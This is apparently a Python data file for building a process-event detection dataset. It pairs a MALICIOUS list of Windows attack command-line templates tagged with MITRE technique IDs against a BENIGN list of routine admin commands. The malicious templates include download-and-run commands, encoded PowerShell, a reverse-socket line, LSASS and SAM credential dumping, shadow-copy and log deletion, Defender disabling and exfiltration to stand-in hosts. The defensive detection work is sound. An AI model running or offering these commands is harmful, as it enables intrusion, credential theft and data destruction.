"""
Process starts that every defender knows, attacks and daily work, written down by hand: image, parent, command lines.

Braces are filled in by make_known_events.py, several times per line. `|` parts alternatives for image and parent.
Both classes use the same fillings and the same parents where they can, so that neither a filling nor a parent
speaks for one of them.
"""

# What may stand in braces.
FILLINGS = {
    "url": ["http://{ip}/{name}.{payload}", "https://{domain}/{name}.{payload}", "http://{ip}:8080/{name}", "https://{domain}/files/{name}.{payload}"],
    "scripturl": ["http://{ip}/{name}.ps1", "https://{domain}/{name}.ps1", "https://{domain}/r/{name}", "http://{ip}:8000/{name}"],
    "ip": ["10.20.30.41", "192.168.7.23", "172.16.4.9", "203.0.113.77", "198.51.100.24", "45.9.148.3"],
    "domain": ["cdn-files.example", "update-check.example", "paste.example", "files.example.net", "static.example.org"],
    "name": ["a", "update", "x1", "beacon", "report", "svc", "load", "invoice", "data", "q7rt"],
    "payload": ["exe", "dll", "dat", "txt", "png", "zip"],
    "user": ["anna", "j.meyer", "administrator", "svc_backup", "kim"],
    "host": ["FS01", "DC01", "WS-0417", "SQL-02", "10.1.4.20"],
    "share": ["\\\\{host}\\C$", "\\\\{host}\\ADMIN$", "\\\\{host}\\share", "\\\\{host}\\public"],
    "drop": [
        "C:\\Users\\Public\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\Users\\{user}\\AppData\\Local\\Temp\\",
        "C:\\Users\\{user}\\AppData\\Roaming\\", "C:\\Users\\{user}\\Downloads\\", "C:\\PerfLogs\\", "C:\\Temp\\",
    ],
    "docs": ["C:\\Users\\{user}\\Documents\\", "D:\\work\\", "C:\\src\\app\\", "C:\\Projects\\site\\"],
    "programs": ["C:\\Program Files\\Contoso\\Agent\\", "C:\\Program Files (x86)\\Vendor\\Tool\\", "C:\\Program Files\\Common Files\\Acme\\"],
    "b64": [
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA",
        "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgALABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwA",
        "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADAALgAyADAALgAzADAALgA0ADEALwBhACkA",
    ],
    "guid": ["{9BA05972-F6A8-11CF-A442-00A0C90A8F39}", "{1F7DD4F3-CAC3-11D0-A35B-00AA00BDCDFD}", "{3ad05575-8857-4850-9277-11b85bdb8e09}"],
    "pid": ["624", "708", "4", "1180", "892"],
    "task": ["Updater", "OneDriveSync", "SysCheck", "Maintenance", "{name}"],
    "channel": ["Security", "System", "Application", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-TaskScheduler/Operational", "Setup", "Windows PowerShell", "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Bits-Client/Operational"],
    "number": ["1", "7", "30", "443", "8080"],
}

S32 = "C:\\Windows\\System32\\"
POWERSHELL = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE"
READERS = "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe|C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|C:\\Program Files\\7-Zip\\7zFM.exe|C:\\Program Files\\WinRAR\\WinRAR.exe"
WEB = S32 + "inetsrv\\w3wp.exe|C:\\Program Files\\Apache\\bin\\httpd.exe|C:\\Program Files\\Tomcat 9.0\\bin\\tomcat9.exe|C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
CMD = S32 + "cmd.exe"
SERVICES = S32 + "services.exe"
SVCHOST = S32 + "svchost.exe"
WMIPRVSE = S32 + "wbem\\WmiPrvSE.exe"
SCRIPTS = S32 + "wscript.exe|" + S32 + "mshta.exe|" + S32 + "cscript.exe"
HANDS = f"{CMD}|{POWERSHELL}|{EXPLORER}"
TYPED = f"{CMD}|{POWERSHELL}"
EDITORS = "C:\\Program Files\\Microsoft VS Code\\Code.exe|C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe|C:\\Program Files\\JetBrains\\IntelliJ IDEA 2023.1\\bin\\idea64.exe"
TERMINAL = "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe"
MANAGEMENT = "C:\\Windows\\CCM\\CcmExec.exe|C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe|C:\\Program Files\\Contoso\\Agent\\agent.exe|C:\\Program Files (x86)\\Tanium\\Tanium Client\\TaniumClient.exe"

# technique, image, parent, lines
MALICIOUS = [
    ("T1218.005", S32 + "mshta.exe", f"{HANDS}|{OFFICE}|{READERS}", [
        "mshta {url}", "mshta.exe http://{ip}/{name}.hta", '"C:\\Windows\\System32\\mshta.exe" https://{domain}/{name}.hta',
        "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden iwr {url}\"\",0:close\")",
        "mshta javascript:a=GetObject('script:http://{ip}/{name}.sct').Exec();close();", "mshta.exe {drop}{name}.hta", "mshta.exe \\\\{ip}\\{name}\\{name}.hta"]),
    ("T1105", S32 + "certutil.exe", f"{TYPED}|{OFFICE}|{WEB}", [
        "certutil -urlcache -split -f {url} {drop}{name}.exe", "certutil.exe -urlcache -f {url} {name}.{payload}", "certutil -verifyctl -split -f {url}",
        "certutil -decode {drop}{name}.txt {drop}{name}.exe", "certutil -decodehex {drop}{name}.txt {drop}{name}.dll", "certutil -encode {drop}{name}.zip {drop}{name}.b64"]),
    ("T1197", S32 + "bitsadmin.exe", f"{TYPED}|{SCRIPTS}", [
        "bitsadmin /transfer {name} /download /priority high {url} {drop}{name}.exe", "bitsadmin /transfer {task} {url} {drop}{name}.{payload}",
        "bitsadmin /addfile {name} {url} {drop}{name}.exe", 'bitsadmin /SetNotifyCmdLine {name} {drop}{name}.exe NULL', "bitsadmin.exe /create /download {name}"]),
    ("T1218.010", S32 + "regsvr32.exe", f"{HANDS}|{OFFICE}", [
        "regsvr32 /s /n /u /i:{url} scrobj.dll", "regsvr32.exe /s /u /i:{drop}{name}.sct scrobj.dll", "regsvr32 /s {drop}{name}.dll", "regsvr32.exe -s {drop}{name}.dat", "regsvr32 /s \\\\{ip}\\{name}\\{name}.dll"]),
    ("T1218.011", S32 + "rundll32.exe", f"{HANDS}|{OFFICE}|{SCRIPTS}", [
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:{url}")', "rundll32 {drop}{name}.dll,#1", "rundll32.exe {drop}{name}.dll,DllRegisterServer",
        "rundll32 {drop}{name}.dat,Start", "rundll32.exe \\\\{ip}\\{name}\\{name}.dll,Entry", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} {drop}{name}.dmp full",
        "rundll32 comsvcs.dll #24 {pid} {drop}{name}.bin full", "rundll32.exe url.dll,OpenURL {drop}{name}.hta", "rundll32.exe advpack.dll,LaunchINFSection {drop}{name}.inf,DefaultInstall,1,"]),
    ("T1059.001", POWERSHELL, f"{OFFICE}|{READERS}|{SCRIPTS}|{WEB}|{CMD}|{WMIPRVSE}|{EXPLORER}|{SVCHOST}", [
        "powershell -nop -w hidden -enc {b64}", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {b64}", "powershell -e {b64}", "powershell.exe -ep bypass -c IEX(New-Object Net.WebClient).DownloadString('{scripturl}')",
        'powershell "iex (iwr {scripturl} -UseBasicParsing)"', "powershell -w 1 -c (New-Object System.Net.WebClient).DownloadFile('{url}','{drop}{name}.exe');Start-Process {drop}{name}.exe",
        "powershell.exe -c Start-BitsTransfer {url} {drop}{name}.exe; {drop}{name}.exe", "powershell -c $c=New-Object Net.Sockets.TCPClient('{ip}',443);$s=$c.GetStream()",
        "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File {drop}{name}.ps1", "powershell -c [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        "powershell IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gc {drop}{name}.txt))))", "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true", "powershell Add-MpPreference -ExclusionPath {drop}"]),
    ("T1204.002", CMD, f"{OFFICE}|{READERS}|{SCRIPTS}", [
        "cmd.exe /c start {drop}{name}.exe", "cmd /c powershell -w hidden -c iwr {url} -o {drop}{name}.exe", "cmd.exe /c {drop}{name}.bat", "cmd /c copy \\\\{ip}\\{name}\\{name}.dll {drop} & rundll32 {drop}{name}.dll,Start",
        "cmd /c curl -s -o {drop}{name}.exe {url} && {drop}{name}.exe", "cmd.exe /c set a=power&& set b=shell&& call %a%%b% -e {b64}"]),
    ("T1505.003", CMD, WEB, ["cmd.exe /c whoami", '"cmd.exe" /c ipconfig /all', "cmd /c dir C:\\inetpub\\wwwroot", "cmd.exe /c net user {user} Passw0rd! /add", "cmd.exe /c certutil -urlcache -f {url} {drop}{name}.exe", "cmd.exe /c tasklist /svc"]),
    ("T1047", S32 + "wbem\\WMIC.exe", HANDS, [
        'wmic /node:{host} process call create "cmd /c {drop}{name}.exe"', "wmic process call create {drop}{name}.exe", "wmic os get /format:{url}", "wmic process list /FORMAT:{drop}{name}.xsl",
        "wmic shadowcopy delete", "wmic /node:@{drop}{name}.txt process call create \"powershell -e {b64}\"", "wmic product where name='Endpoint Protection' call uninstall /nointeractive"]),
    ("T1021.002", CMD, f"{SERVICES}|{WMIPRVSE}", [
        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000.12 2>&1", "%COMSPEC% /C echo {name} ^> \\\\.\\pipe\\{name}", "cmd.exe /c powershell -nop -w hidden -enc {b64}", "C:\\Windows\\system32\\cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\C$\\Windows\\Temp\\{name} 2>&1",
        "cmd /c {drop}{name}.bat > {drop}{name}.txt"]),
    ("T1490", S32 + "vssadmin.exe", TYPED, ["vssadmin delete shadows /all /quiet", "vssadmin.exe Delete Shadows /For=C: /Quiet", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"]),
    ("T1490", S32 + "bcdedit.exe", TYPED, ["bcdedit /set {default} recoveryenabled No", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /set {default} safeboot network"]),
    ("T1490", S32 + "wbadmin.exe", TYPED, ["wbadmin delete catalog -quiet", "wbadmin delete systemstatebackup -keepversions:0"]),
    ("T1070.001", S32 + "wevtutil.exe", TYPED, ["wevtutil cl Security", "wevtutil.exe clear-log System", 'wevtutil sl "Microsoft-Windows-PowerShell/Operational" /e:false']),
    ("T1070", S32 + "fsutil.exe", TYPED, ["fsutil usn deletejournal /D C:", "fsutil.exe file setZeroData offset=0 length=524288 {drop}{name}.exe"]),
    ("T1003.002", S32 + "reg.exe", TYPED, ["reg save HKLM\\SAM {drop}{name}.hiv", "reg.exe save hklm\\system {drop}sys.hiv", "reg save HKLM\\SECURITY {drop}sec.hiv /y", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f"]),
    ("T1547.001", S32 + "reg.exe", f"{TYPED}|{SCRIPTS}", ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /d {drop}{name}.exe /f", 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d C:\\Windows\\System32\\cmd.exe',
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f', "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d {drop}{name}.exe /f"]),
    ("T1003.001", "C:\\Users\\{user}\\Downloads\\procdump64.exe", TYPED, ["procdump64.exe -accepteula -ma lsass.exe {drop}{name}.dmp", "procdump64 -ma {pid} {drop}{name}.dmp"]),
    ("T1003.003", S32 + "ntdsutil.exe", TYPED, ['ntdsutil "ac i ntds" "ifm" "create full {drop}{name}" q q', "ntdsutil.exe snapshot \"activate instance ntds\" create quit quit"]),
    ("T1053.005", S32 + "schtasks.exe", f"{TYPED}|{OFFICE}|{SCRIPTS}", [
        "schtasks /create /tn {task} /tr {drop}{name}.exe /sc minute /mo 5 /f", "schtasks /create /sc onlogon /tn {task} /tr \"powershell -w hidden -e {b64}\" /ru SYSTEM", "schtasks /create /s {host} /tn {task} /tr {drop}{name}.exe /sc once /st 00:00 /ru SYSTEM",
        "schtasks.exe /run /s {host} /tn {task}", "schtasks /create /tn {task} /tr \"mshta {url}\" /sc daily"]),
    ("T1543.003", S32 + "sc.exe", TYPED, ["sc \\\\{host} create {name} binPath= \"cmd /c {drop}{name}.exe\" start= demand", "sc create {name} binPath= {drop}{name}.exe start= auto", "sc stop WinDefend", "sc config WinDefend start= disabled", "sc sdset {name} D:(D;;DCLCWPDTSD;;;IU)"]),
    ("T1562.004", S32 + "netsh.exe", TYPED, ["netsh advfirewall set allprofiles state off", "netsh interface portproxy add v4tov4 listenport={number} connectport=3389 connectaddress={ip}", "netsh firewall set opmode disable", "netsh wlan export profile key=clear folder={drop}"]),
    ("T1136.001", S32 + "net.exe", TYPED, ["net user {name} Passw0rd123 /add", "net localgroup administrators {name} /add", "net user guest /active:yes", "net stop WinDefend", "net group \"Domain Admins\" {name} /add /domain", "net use {share} /user:{user} Summer2024!"]),
    ("T1482", S32 + "nltest.exe", TYPED, ["nltest /domain_trusts /all_trusts", "nltest /domain_trusts", "nltest.exe /dclist:corp"]),
    ("T1087.002", "C:\\Users\\Public\\adfind.exe", TYPED, ["adfind.exe -f objectcategory=computer -csv name", 'adfind -f "(objectcategory=person)"', "adfind.exe -gcb -sc trustdmp"]),
    ("T1127.001", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", f"{HANDS}|{OFFICE}|{WMIPRVSE}", ["MSBuild.exe {drop}{name}.xml", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe {drop}{name}.csproj", "msbuild.exe \\\\{ip}\\{name}\\{name}.proj"]),
    ("T1218.004", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", HANDS, ["InstallUtil.exe /logfile= /LogToConsole=false /U {drop}{name}.exe", "installutil /U {drop}{name}.dll"]),
    ("T1218.009", "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe", HANDS, ["RegAsm.exe /U {drop}{name}.dll", "regasm {drop}{name}.dll"]),
    ("T1218.003", S32 + "cmstp.exe", HANDS, ["cmstp.exe /ni /s {drop}{name}.inf", "cmstp /s /ns {url}"]),
    ("T1218.007", S32 + "msiexec.exe", f"{HANDS}|{OFFICE}", ["msiexec /q /i {url}", "msiexec.exe /i https://{domain}/{name}.msi /quiet", "msiexec /y {drop}{name}.dll", "msiexec /q /i {drop}{name}.png"]),
    ("T1218.001", "C:\\Windows\\hh.exe", f"{HANDS}|{OFFICE}", ["hh.exe {url}", "hh.exe http://{ip}/{name}.chm", "hh {drop}{name}.chm"]),
    ("T1218.008", S32 + "odbcconf.exe", HANDS, ["odbcconf /a {REGSVR {drop}{name}.dll}", "odbcconf.exe -f {drop}{name}.rsp"]),
    ("T1059.005", S32 + "wscript.exe", f"{EXPLORER}|{READERS}|{OFFICE}|{CMD}", ['"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\Downloads\\{name}.js"', "wscript.exe //b //e:jscript {drop}{name}.txt", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\AppData\\Local\\Temp\\Temp1_{name}.zip\\{name}.vbs"', "wscript {drop}{name}.wsf"]),
    ("T1202", S32 + "forfiles.exe", HANDS, ["forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"cmd /c {drop}{name}.exe\"", "forfiles /p c:\\windows\\system32 /m calc.exe /c {drop}{name}.exe"]),
    ("T1202", S32 + "pcalua.exe", HANDS, ["pcalua.exe -a {drop}{name}.exe", "pcalua -a \\\\{ip}\\{name}\\{name}.exe"]),
    ("T1105", S32 + "curl.exe", TYPED, ["curl {url} -o {drop}{name}.exe", "curl.exe -s -L {url} --output {drop}{name}.dll", "curl -F file=@{drop}{name}.zip https://{domain}/u"]),
    ("T1105", S32 + "finger.exe", TYPED, ["finger {name}@{ip}", "finger.exe {user}@{domain}"]),
    ("T1105", S32 + "desktopimgdownldr.exe", TYPED, ["desktopimgdownldr.exe /lockscreenurl:{url} /eventName:desktopimgdownldr"]),
    ("T1105", "C:\\Program Files\\Windows Defender\\MpCmdRun.exe", TYPED, ["MpCmdRun.exe -DownloadFile -url {url} -path {drop}{name}.exe", "MpCmdRun.exe -RemoveDefinitions -All"]),
    ("T1036.005", "{drop}svchost.exe|{drop}lsass.exe|{drop}explorer.exe|C:\\Users\\{user}\\AppData\\Roaming\\csrss.exe", HANDS, ["{drop}svchost.exe", "svchost.exe -k netsvcs", "lsass.exe", "explorer.exe {ip} 443"]),
    ("T1567.002", "{drop}rclone.exe", TYPED, ["rclone.exe copy \\\\{host}\\share remote:{name} --transfers 20", "rclone copy D:\\ mega:{name} -q --ignore-existing"]),
    ("T1569.002", "C:\\Windows\\PSEXESVC.exe", SERVICES, ["C:\\Windows\\PSEXESVC.exe"]),
    ("T1021.002", "{drop}PsExec64.exe", TYPED, ["PsExec64.exe \\\\{host} -accepteula -s -d {drop}{name}.exe", "psexec64 -accepteula @{drop}{name}.txt -u {user} -p Summer2024! cmd /c {drop}{name}.bat"]),
    ("T1548.002", S32 + "fodhelper.exe", f"{POWERSHELL}|{CMD}", ["fodhelper.exe"]),
    ("T1548.002", CMD, S32 + "fodhelper.exe|" + S32 + "eventvwr.exe|" + S32 + "computerdefaults.exe", ["cmd.exe /c {drop}{name}.exe", "C:\\Windows\\System32\\cmd.exe"]),
    ("T1574.002", S32 + "xwizard.exe", HANDS, ["xwizard RunWizard /u {guid}"]),
    ("T1220", S32 + "cscript.exe", HANDS, ["cscript //E:jscript {drop}{name}.xml", "cscript.exe //nologo {drop}{name}.vbs {ip}", "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:{url}"]),
    ("T1216", S32 + "cscript.exe", TYPED, ["cscript //nologo C:\\Windows\\System32\\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine=\"{drop}{name}.exe\"} -r:http://{host}:5985"]),
    ("T1140", S32 + "expand.exe", TYPED, ["expand \\\\{ip}\\{name}\\{name}.cab {drop}{name}.exe", "expand {drop}{name}.cab {drop}{name}.dll"]),
    ("T1560.001", "C:\\Program Files\\7-Zip\\7z.exe|C:\\Program Files\\WinRAR\\Rar.exe", TYPED, ["7z.exe a -p{name}123 {drop}{name}.7z C:\\Users\\*\\Documents", "rar.exe a -hp{name}! -m5 -v500m {drop}{name}.rar \\\\{host}\\share"]),
    ("T1564.003", S32 + "conhost.exe", f"{EXPLORER}|{SCRIPTS}", ["conhost.exe --headless powershell -e {b64}", "conhost --headless cmd /c {drop}{name}.bat"]),
    ("T1090", S32 + "OpenSSH\\ssh.exe", TYPED, ["ssh.exe -o StrictHostKeyChecking=no -R {number}:127.0.0.1:3389 root@{ip}", "ssh -N -f -R 1080 {name}@{domain}"]),
]

BENIGN = [
    (None, POWERSHELL, f"{EXPLORER}|{TERMINAL}|{CMD}", ["powershell.exe", "powershell", f'"{POWERSHELL}"', f'"{POWERSHELL}" ', POWERSHELL, f"{POWERSHELL} -NoLogo"]),
    (None, POWERSHELL, EXPLORER, [f"\"{POWERSHELL}\" -noexit -command Set-Location -literalPath '{{docs}}'", f'"{POWERSHELL}" "-Command" "if((Get-ExecutionPolicy ) -ne \'AllSigned\') {{ Set-ExecutionPolicy -Scope Process Bypass }}; & \'{{docs}}build.ps1\'"']),
    (None, "C:\\Program Files\\PowerShell\\7\\pwsh.exe", f"{EXPLORER}|{TERMINAL}|{EDITORS}", ['"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -WorkingDirectory ~', "pwsh.exe -NoLogo", "pwsh -File {docs}build.ps1"]),
    (None, CMD, f"{EXPLORER}|{TERMINAL}", ['"C:\\Windows\\system32\\cmd.exe" ', "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd /k cd /d {docs}", 'C:\\Windows\\system32\\cmd.exe /c ""{docs}start.bat" "', 'C:\\Windows\\system32\\cmd.exe /c ""\\\\{host}\\netlogon\\logon.bat" "']),
    (None, POWERSHELL, EDITORS, [f'"{POWERSHELL}" -NoProfile -ExecutionPolicy Bypass -Command "Import-Module \'c:\\Users\\{{user}}\\.vscode\\extensions\\ms-vscode.powershell-2023.8.0\\modules\\PowerShellEditorServices.psd1\'"', "powershell.exe -noexit -command . shellIntegration.ps1", "powershell -NonInteractive -Command Get-Process node"]),
    (None, CMD, EDITORS, ["cmd.exe /c npm run build", "C:\\Windows\\system32\\cmd.exe /d /s /c \"git status --porcelain\"", "cmd.exe /c set", "cmd.exe /C \"{docs}gradlew.bat assemble\""]),
    (None, POWERSHELL, MANAGEMENT, [
        f'"{POWERSHELL}" -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass & \'C:\\Windows\\CCM\\SystemTemp\\5d3c1a0e.ps1\'', 'powershell.exe -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\DetectionScripts\\detect.ps1"',
        "powershell -ExecutionPolicy Bypass -File {programs}inventory.ps1", "powershell.exe -NonInteractive -Command Get-HotFix | Select-Object HotFixID", "powershell -NoProfile -Command (Get-CimInstance Win32_OperatingSystem).Version"]),
    (None, POWERSHELL, SVCHOST, ["powershell.exe -NoProfile -NonInteractive -File {programs}rotate-logs.ps1", "powershell.exe -ExecutionPolicy RemoteSigned -File D:\\scripts\\backup.ps1", "powershell.exe -Command Get-AppxPackage -AllUsers"]),
    (None, CMD, f"{MANAGEMENT}|{SVCHOST}", ["cmd.exe /c {programs}update.cmd", "C:\\Windows\\system32\\cmd.exe /c ipconfig /all", "cmd /c ver", "cmd.exe /c systeminfo > {programs}inventory.txt"]),
    (None, S32 + "mshta.exe", f"{EXPLORER}|{MANAGEMENT}", ['"C:\\Windows\\SysWOW64\\mshta.exe" "{programs}setup.hta"', "mshta.exe C:\\Program Files\\Contoso\\Agent\\notice.hta", "mshta.exe \"\\\\{host}\\DeploymentShare\\Scripts\\Wizard.hta\""]),
    (None, S32 + "certutil.exe", TYPED, ["certutil -hashfile {docs}setup.exe SHA256", "certutil -store my", "certutil -addstore -f root {docs}corp-root.cer", "certutil -verify {docs}server.cer", "certutil -dump {docs}request.csr", "certutil -pulse", "certutil -viewstore -enterprise NTAuth"]),
    (None, S32 + "bitsadmin.exe", TYPED, ["bitsadmin /list /allusers", "bitsadmin /util /version", "bitsadmin /reset"]),
    (None, S32 + "regsvr32.exe", f"{S32}msiexec.exe|{CMD}|{EXPLORER}", ['regsvr32.exe /s "{programs}shellext.dll"', "regsvr32 /s C:\\Windows\\System32\\vbscript.dll", "regsvr32 /u {programs}plugin.ocx", "C:\\Windows\\System32\\regsvr32.exe /s \"C:\\Windows\\system32\\wuaueng.dll\""]),
    (None, S32 + "rundll32.exe", f"{EXPLORER}|{SVCHOST}|{S32}control.exe", [
        '"C:\\Windows\\system32\\rundll32.exe" Shell32.dll,Control_RunDLL "C:\\Windows\\system32\\inetcpl.cpl"', "rundll32.exe shell32.dll,OpenAs_RunDLL {docs}notes.dat", "rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {guid} -Embedding",
        "rundll32.exe C:\\Windows\\System32\\PhotoViewer.dll,ImageView_Fullscreen {docs}photo.jpg", "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\{host}\\printer", "C:\\Windows\\system32\\rundll32.exe Windows.Storage.ApplicationData.dll,CleanupTemporaryState", "rundll32.exe dfshim.dll,ShOpenVerbApplication https://apps.example/tool.application",
        "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie {host} http://{host}/share", "rundll32.exe user32.dll,LockWorkStation", "rundll32.exe C:\\Windows\\System32\\ndfapi.dll,NdfRunDllDiagnoseIncident"]),
    (None, S32 + "wbem\\WMIC.exe", f"{TYPED}|{MANAGEMENT}", ["wmic os get caption,version", "wmic logicaldisk get size,freespace,caption", "wmic bios get serialnumber", "wmic cpu get name", "wmic computersystem get model,manufacturer", "wmic path win32_battery get estimatedchargeremaining", "wmic memorychip get capacity"]),
    (None, S32 + "vssadmin.exe", f"{TYPED}|{MANAGEMENT}", ["vssadmin list shadows", "vssadmin list writers", "vssadmin list shadowstorage", "vssadmin list providers"]),
    (None, S32 + "bcdedit.exe", TYPED, ["bcdedit", "bcdedit /enum all", "bcdedit /set hypervisorlaunchtype auto", "bcdedit /timeout 10"]),
    (None, S32 + "wevtutil.exe", TYPED, ["wevtutil qe System /c:20 /rd:true /f:text", "wevtutil el", "wevtutil gl Security", "wevtutil epl Application {docs}app.evtx", "wevtutil sl Security /ms:1073741824"]),
    (None, S32 + "fsutil.exe", TYPED, ["fsutil fsinfo drives", "fsutil volume diskfree c:", "fsutil dirty query c:"]),
    (None, S32 + "reg.exe", f"{TYPED}|{MANAGEMENT}", ["reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" /v ReleaseId", "reg add HKCU\\Software\\Contoso\\Tool /v Theme /t REG_SZ /d dark /f", "reg export HKCU\\Software\\Contoso {docs}settings.reg /y", "reg query \"HKLM\\SOFTWARE\\Microsoft\\NET Framework Setup\\NDP\\v4\\Full\" /v Release", "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v TargetGroup /d Pilot /f"]),
    (None, S32 + "schtasks.exe", f"{TYPED}|{MANAGEMENT}", ["schtasks /query /fo LIST /v", "schtasks /query /tn \\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "schtasks /run /tn \"Contoso Backup\"", "schtasks /end /tn \"Contoso Backup\"", "schtasks /create /tn \"Contoso Backup\" /xml {programs}backup.xml /f", "schtasks /change /tn \"Adobe Acrobat Update Task\" /disable"]),
    (None, S32 + "sc.exe", f"{TYPED}|{MANAGEMENT}", ["sc query", "sc query wuauserv", "sc qc spooler", "sc start spooler", "sc stop spooler", "sc config wuauserv start= demand", "sc queryex type= service state= all"]),
    (None, S32 + "netsh.exe", TYPED, ["netsh interface ip show config", "netsh wlan show interfaces", "netsh advfirewall show allprofiles", "netsh int ip reset", "netsh winsock reset", "netsh trace start capture=yes tracefile={docs}net.etl", "netsh http show sslcert", "netsh advfirewall firewall add rule name=\"Contoso Agent\" dir=in action=allow program=\"{programs}agent.exe\""]),
    (None, S32 + "net.exe", f"{TYPED}|{EXPLORER}", ["net use", "net use Z: \\\\{host}\\share /persistent:yes", "net start spooler", "net stop wuauserv", "net time \\\\{host}", "net statistics workstation", "net share"]),
    (None, S32 + "nltest.exe", TYPED, ["nltest /sc_query:corp", "nltest /dsgetsite", "nltest /sc_verify:corp"]),
    (None, "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe", f"{EDITORS}|{CMD}", ["MSBuild.exe {docs}App.sln /t:Build /p:Configuration=Release", "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe\" {docs}App.csproj -restore -m", "MSBuild.exe /nologo /nodemode:1 /nodeReuse:true"]),
    (None, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", f"{TYPED}|{S32}msiexec.exe", ["InstallUtil.exe {programs}Service.exe", "InstallUtil.exe /u {programs}Service.exe"]),
    (None, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", f"{POWERSHELL}|{EDITORS}", ['"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Users\\{user}\\AppData\\Local\\Temp\\k3jd0qpz.cmdline"', "csc.exe /out:{docs}tool.exe {docs}tool.cs"]),
    (None, S32 + "msiexec.exe", f"{EXPLORER}|{CMD}|{MANAGEMENT}|{SERVICES}", ["msiexec /i {docs}setup.msi", 'msiexec.exe /i "C:\\Users\\{user}\\Downloads\\Git-2.43.0.msi" ', "msiexec /x {guid} /qn", "C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe /i \"C:\\Windows\\ccmcache\\3f\\app.msi\" /qn /norestart /l*v C:\\Windows\\Logs\\app.log", "msiexec /i \\\\{host}\\software\\7zip.msi /qn"]),
    (None, "C:\\Windows\\hh.exe", EXPLORER, ['"C:\\Windows\\hh.exe" {programs}help.chm', "hh.exe C:\\Windows\\Help\\mmc.chm"]),
